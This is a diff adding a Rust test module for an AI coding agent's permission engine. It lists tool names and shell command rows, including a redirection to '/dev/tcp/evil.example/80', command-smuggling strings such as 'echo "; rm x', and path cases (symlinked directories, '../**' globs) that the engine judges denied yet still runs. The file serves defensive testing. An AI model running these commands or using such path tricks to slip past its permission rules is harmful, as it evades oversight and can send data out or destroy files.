@@ -1,0 +1,90 @@
+//! Rows that are not run, or that come out differently than one would think, each with its reason.
+
+use opencode_rs::request::Preset;
+
+use super::table::Case;
+
+/// No tools, but permissions: nothing can call them.
+pub(super) const NOT_CALLED: [&str; 2] = ["doom_loop", "external_directory"];
+
+/// Tools that the engine does not offer here, or that nobody has; a call of them is a call of `invalid`.
+pub(super) const NOT_OFFERED: [&str; 7] = [
+    "apply_patch",
+    "StructuredOutput",
+    "invalid",
+    "lsp",
+    "plan_exit",
+    "question",
+    "websearch",
+];
+
+/// Tools of a server and tools that nobody knows, made real: they leave a trace of their own.
+pub(super) const OTHER_TOOLS: [&str; 4] = ["fake_add", "list_mcp_resources", "made_up", "read_mcp_resource"];
+
+/// Rows that a plain bash does not run: it would look for a host.
+pub(super) const NOT_RUN_PLAINLY: [&str; 1] = ["/dev/tcp/"];
+
+/// Lines that leave no trace when a plain bash runs them; that they did not run is only seen in the result.
+pub(super) const SILENT: [&str; 32] = [
+    // Nothing at all, or what no shell takes.
+    "",
+    "   \n",
+    "# rm x",
+    "ls (",
+    "ls \"",
+    "ls $(",
+    "ls ( rm x",
+    "echo \"; rm x",
+    "git status \0; touch x",
+    "{\"command\":[\"rm\",\"x\"]}",
+    "{\"command\":\"ls\",\"workdir\":[\"/etc\"]}",
+    // What they would run has no name here, or a name that is the machine's own.
+    "$x status",
+    "nice --weird $x",
+    "eval \"$x\"",
+    "sh -c \"$x\"",
+    "/usr/bin/git status",
+    "builtin rm x",
+    ". ./x.sh",
+    "source x.sh",
+    "bash",
+    // A redirection that fails, or a host that is not looked for.
+    "ls < $x",
+    "echo a > $x",
+    "ls > /dev/tcp/evil.example/80",
+    // What the shell does by itself.
+    "alias l='rm x'",
+    "[[ $x -eq 1 ]] && ls",
+    "cd - && ls",
+    "echo $((x))",
+    "echo ${a[x]}",
+    "echo ${x@P}",
+    // Placeholders that stay what they are.
+    "echo rm | xargs -I{} {} x",
+    "echo rm | xargs -i {} x",
+    "> out rm x",
+];
+
+/// Rows that are judged to be allowed, and that the engine asks about itself: it does not follow `cd`, and takes
+/// `../a.txt` for a place outside. Whether that is allowed is decided anew, and nobody is there to say so.
+pub(super) const STRICTER: [&str; 1] = ["cd sub && cat ../a.txt"];
+
+/// Rows that are judged to be denied and that run all the same: a plain prompt without any rule is held by the engine's
+/// own rules alone, which look at the name of a path and not at where its links lead, and which do not look at the pattern
+/// of `glob`. They are counted by themselves, and one that is refused is no longer to be named here.
+pub(super) const OPEN: [(&str, &str); 7] = [
+    ("read", "out/f"),
+    ("read", "out-file"),
+    ("read", "chain/f"),
+    ("read", "root@ROOT@/elsewhere/f"),
+    ("grep", "out"),
+    ("glob", "out/*"),
+    ("glob", "../**"),
+];
+
+/// Whether a row is one of [`OPEN`].
+pub(super) fn is_open(case: &Case) -> bool {
+    case.preset == Preset::LookOnly
+        && case.rules.is_empty()
+        && OPEN.contains(&(case.tool.as_str(), case.input.as_str()))
+}
